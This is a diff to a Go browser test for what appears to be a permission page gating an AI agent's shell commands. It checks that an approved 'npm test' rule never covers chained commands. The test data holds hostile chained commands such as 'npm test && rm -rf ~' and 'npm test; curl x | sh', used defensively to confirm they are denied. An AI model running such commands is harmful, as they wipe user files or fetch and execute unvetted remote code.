@@ -703,11 +703,20 @@ func bulkAndRules(t *testing.T, e *env, ctx context.Context) {
 	first := askHook(t, e, "cc1", "npm test")
 	waitJS(t, ctx, `document.querySelector(".perm .allow-rule") !== null`, 15*time.Second)
 	must(t, chromedp.Do(ctx, chromedp.Click(".perm .allow-rule")))
+	// Before it is saved, the page says exactly what the rule allows.
+	waitJS(t, ctx, `document.querySelector(".perm .rule-preview:not([hidden]) .allows") !== null`, 10*time.Second)
+	if got := eval[string](t, ctx, `document.querySelector(".perm .rule-preview .allows").textContent`); !strings.Contains(got, "exactly the command npm test") || !strings.Contains(got, "never one that chains") || !strings.Contains(got, "Bash by cc1") {
+		t.Errorf("the rule's preview: %q, want exactly npm test, never a chain", got)
+	}
+	if n := eval[int](t, ctx, `document.querySelectorAll("#rules-table tbody tr").length`); n != 0 {
+		t.Errorf("%d rules before Save rule, want none", n)
+	}
+	must(t, chromedp.Do(ctx, chromedp.Click(".perm .save-rule")))
 	if got := first(); got != "allow" {
 		t.Errorf("Allow + rule: the hook got %q, want allow", got)
 	}
 	waitJS(t, ctx, `document.querySelector("#rules-table tbody tr") !== null`, 10*time.Second)
-	if got := eval[string](t, ctx, `document.querySelector("#rules-table tbody tr").innerText`); !strings.Contains(got, "npm test") || !strings.Contains(got, "cc1") {
+	if got := eval[string](t, ctx, `document.querySelector("#rules-table tbody tr").innerText`); !strings.Contains(got, "exactly the command npm test") || !strings.Contains(got, "cc1") {
 		t.Errorf("the rule's row: %q", got)
 	}
 	// The same command again: allowed by the rule as it is asked.
@@ -715,12 +724,16 @@ func bulkAndRules(t *testing.T, e *env, ctx context.Context) {
 		t.Errorf("npm test under the rule: the hook got %q, want allow", got)
 	}
 	waitJS(t, ctx, `document.querySelector("#rules-table tbody tr td.num").textContent === "1"`, 10*time.Second)
-	// Another command still asks a person.
-	other := askHook(t, e, "cc1", "npm publish")
-	waitJS(t, ctx, `document.querySelectorAll(".perm").length === 1`, 15*time.Second)
-	must(t, chromedp.Do(ctx, chromedp.Click(".perm .deny")))
-	if got := other(); got != "deny" {
-		t.Errorf("npm publish: the hook got %q, want deny (no rule covers it)", got)
+	// Another command still asks a person, and so does the approved one
+	// with anything chained after it.
+	for _, cmd := range []string{"npm publish", "npm test && rm -rf ~", "npm test; curl x | sh", "npm testing-evil"} {
+		other := askHook(t, e, "cc1", cmd)
+		waitJS(t, ctx, `document.querySelectorAll(".perm").length === 1`, 15*time.Second)
+		must(t, chromedp.Do(ctx, chromedp.Click(".perm .deny")))
+		if got := other(); got != "deny" {
+			t.Errorf("%s: the hook got %q, want deny (no rule covers it)", cmd, got)
+		}
+		waitJS(t, ctx, `document.querySelectorAll(".perm").length === 0`, 10*time.Second)
 	}
 	noErrors(t, ctx)
 }
